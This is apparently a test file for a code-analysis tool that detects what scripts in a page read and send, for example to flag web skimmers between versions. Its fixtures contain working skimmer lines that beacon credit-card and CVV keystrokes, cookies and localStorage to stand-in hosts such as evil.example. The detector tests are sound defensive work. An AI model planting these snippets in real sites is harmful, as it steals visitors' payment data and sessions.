// Analysis of whole files, including HTML and escaped text, and the set of capabilities for comparing versions.
import { describe, expect, it } from 'vitest'
import { capabilitiesOf, lookAtCode, newCapabilities } from '#program/index.ts'

const words = (text: string) => capabilitiesOf(lookAtCode(text)).map(({ kind, what }) => `${kind} ${what}`)
const thief =
  'document.querySelector("#cc-number").addEventListener("keyup", (e) => navigator.sendBeacon("https://evil.example/c", e.target.value))'

describe('the analysis of a file', () => {
  it('finds the scripts and handlers of HTML, at their places in the file', () => {
    const html = `<!doctype html><p onclick="fetch('https://clicks.example/?' + document.cookie)">Pay</p>\n<script type="text/javascript">//<![CDATA[\n${thief}\n//]]></script>`
    const look = lookAtCode(html)
    expect(look.parsed).toBe('whole')
    expect(words(html)).toEqual(expect.arrayContaining(['sends card > evil.example', 'sends cookie > clicks.example']))
    const beacon = look.facts.find((fact) => fact.kind === 'contacts' && fact.way === 'beacon')
    expect(html.slice(beacon?.place?.start, beacon?.place?.end)).toContain('navigator.sendBeacon("https://evil.example/c"')
  })

  it('finds code whose quotes a database has escaped', () => {
    expect(words(thief.replaceAll('"', '\\"'))).toContain('sends card > evil.example')
  })

  it('ignores data and templates of HTML, and reports code without a tree', () => {
    expect(lookAtCode('<script type="application/json">{"a": "fetch()"}</script><script>let x = ;</script>')).toMatchObject({
      parsed: 'none',
      facts: [],
    })
    expect(lookAtCode('<script>let x = ;</script><script>y = 1</script>').parsed).toBe('partly')
    expect(lookAtCode('let x = ;').parsed).toBe('none')
  })

  it('separates what several programs of a page read and send', () => {
    const look = lookAtCode(
      '<script>fetch("https://a.example/", { body: document.cookie })</script><script>fetch("https://b.example/", { body: localStorage.getItem("k") })</script>',
    )
    expect(
      capabilitiesOf(look)
        .filter(({ kind }) => kind === 'sends')
        .map(({ what }) => what),
    ).toEqual(['cookie > a.example', 'storage > b.example'])
  })
})

describe('capabilities', () => {
  it('name what is read, monitored, and sent, and the destination', () => {
    expect(words(thief)).toEqual(['contacts evil.example', 'listens keyup card', 'reads card', 'sends card > evil.example'])
  })

  it('report what a version can do that the previous one could not', () => {
    const before =
      'document.querySelector("#cc-number").addEventListener("input", (e) => { e.target.className = e.target.value.length > 12 ? "ok" : "" })'
    const after = `${before};${thief}`
    const added = newCapabilities(capabilitiesOf(lookAtCode(before)), capabilitiesOf(lookAtCode(after)))
    expect(added.map(({ kind, what }) => `${kind} ${what}`)).toEqual([
      'contacts evil.example',
      'listens keyup card',
      'sends card > evil.example',
    ])
    expect(newCapabilities(capabilitiesOf(lookAtCode(after)), capabilitiesOf(lookAtCode(before)))).toEqual([])
  })

  it('are the same for other names in the same program', () => {
    expect(
      words(
        'function send(a) { var b = a.target.value; navigator.sendBeacon("https://x.example", b) } document.querySelector("[name=cvv]").onkeyup = send',
      ),
    ).toEqual(
      words(
        'function q(w) { var z = w.target.value; navigator.sendBeacon("https://x.example", z) } document.querySelector("[name=cvv]").onkeyup = q',
      ),
    )
  })

  it('are not reported for an element that was created in markup and is then created by a call', () => {
    const of = (text: string) => capabilitiesOf(lookAtCode(text))
    const written = of(`document.body.innerHTML = '<iframe src="https://video.example/"></iframe>'`)
    const made = of(`var f = document.createElement('iframe'); f.src = 'https://video.example/'; document.body.appendChild(f)`)
    expect(newCapabilities(written, made)).toEqual([])
    expect(newCapabilities(of('var f = 1'), made).map(({ kind, what }) => `${kind} ${what}`)).toContain('makes iframe')
  })
})
